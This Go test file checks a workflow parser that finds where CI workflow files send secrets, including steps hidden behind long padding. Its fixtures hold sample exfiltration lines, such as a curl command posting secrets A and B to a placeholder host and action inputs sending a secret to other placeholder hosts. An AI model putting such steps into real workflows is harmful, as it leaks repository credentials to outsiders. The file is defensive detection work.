package workflow

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// Padding does not hide what stands behind it, and what keeps a file from being parsed is told.
func TestPaddedFiles(t *testing.T) {
	const send = `curl -d "A=$A&B=$B" https://a.example.invalid`
	env := "env:\n  A: ${{ secrets.A }}\n  B: \"${{ secrets.B }}\"\n"
	job := "on: push\n" + env + "jobs:\n  a:\n    runs-on: x\n    steps:\n      - run: "
	nodes := "x: [" + strings.Repeat("1,", MaxNodes) + "1]\n"
	for name, c := range map[string]struct {
		text    string
		partial bool
	}{
		"comment before":       {"# " + strings.Repeat("x", 600_000) + "\n" + job + send + "\n", false},
		"script before":        {job + "|\n" + strings.Repeat("          echo a line of padding\n", 20_000) + "          " + send + "\n", false},
		"more nodes than ours": {nodes + job + send + "\n", true},
		"env in flow style":    {nodes + strings.Replace(job, env, "env: {A: \"${{ secrets.A }}\", B: '${{ secrets.B }}'}\n", 1) + send + "\n", true},
	} {
		f := Parse([]byte(c.text))
		if len(f.Destinations) != 1 || !slices.Equal(f.Destinations[0].SelfNamed, []string{"A", "B"}) {
			t.Errorf("%s: %+v %v", name, f.Destinations, f.Problems)
		}
		if (f.Partial != "") != c.partial {
			t.Errorf("%s: partial: %q", name, f.Partial)
		}
	}
	if f := Parse([]byte(step("curl " + manyURLs(MaxDestinations+1)))); f.Partial == "" {
		t.Error("a cut list of destinations is not told")
	}
	if f := Parse([]byte("# on: push\n# ${{ secrets.A }}\n")); f.Partial != "" || len(f.Secrets) != 0 {
		t.Errorf("a file of comments: %+v", f)
	}
}

func TestInputsOfActions(t *testing.T) {
	f := Parse([]byte("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: x/http@v1\n        env: {H: b.example.invalid}\n        with:\n          url: https://a.example.invalid/x\n" +
		"          data: A=${{ secrets.A }}\n          to: https://${{ env.H }}\n          host: 192.0.2.7\n          file: out.json\n      - uses: x/y@v1\n        with:\n          script: |\n            let x = 1\n            await fetch(\"https://c.example.invalid\")\n"))
	var got []string
	for _, d := range f.Destinations {
		got = append(got, fmt.Sprintf("%s:%d:%s:%v:%v", d.Host, d.Line, strings.Join(d.Secrets, ","), d.Uploads, d.SelfNamed))
	}
	if s := strings.Join(got, " "); s != "192.0.2.7:12:A:true:[A] b.example.invalid:11:A:true:[A] a.example.invalid:9:A:true:[A] c.example.invalid:18::false:[]" {
		t.Error(s)
	}
}
